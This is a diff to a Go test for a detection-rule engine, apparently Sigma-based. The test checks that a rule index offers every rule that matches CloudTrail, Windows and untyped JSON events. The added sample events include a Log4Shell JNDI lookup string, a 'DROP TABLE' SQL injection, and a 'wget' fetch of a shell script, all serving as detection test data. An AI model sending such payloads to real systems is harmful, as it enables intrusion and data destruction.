@@ -17,14 +17,15 @@ import (
 
 // TestIndexKeepsEveryMatch evaluates every program on every event, without the index, and
 // checks the index offers each program that matches: it may offer more, never fewer. The
-// programs are every CloudTrail and Windows rule of the corpora, the events CloudTrail sample
-// records and Windows events of every kind.
+// programs are every rule of the Sigma corpus and the CloudTrail rules of suzaku-rules, the
+// events CloudTrail sample records, Windows events of every kind, and JSON of no known shape
+// (which rules of every product but aws and windows may match).
 func TestIndexKeepsEveryMatch(t *testing.T) {
 	if testing.Short() {
 		t.Skip("evaluates thousands of rules on every event")
 	}
 	dir := testcorpora.Dir(t)
-	win, _, err := LoadRules([]string{filepath.Join(dir, "sigma", "rules", "windows")}, Filter{})
+	win, _, err := LoadRules([]string{filepath.Join(dir, "sigma", "rules")}, Filter{})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -38,6 +39,14 @@ func TestIndexKeepsEveryMatch(t *testing.T) {
 		}
 	}
 	events = append(events, bytes.Split(bytes.TrimSpace(windowsEvents(300)), []byte{'\n'})...)
+	for _, ev := range []string{
+		`{"message":"sshd[1]: Failed password for root from 10.0.0.1","host":"web1"}`,
+		`{"cs-method":"GET","cs-uri-query":"/index.php?q=${jndi:ldap://x/a}","sc-status":200}`,
+		`{"query":"DROP TABLE users; --","user":"app"}`,
+		`{"eventSource":"iam.amazonaws.com","eventName":"CreateUser","message":"wget http://x/a.sh"}`,
+	} {
+		events = append(events, []byte(ev))
+	}
 	matched, offered := 0, 0
 	for _, ev := range events {
 		var e Event
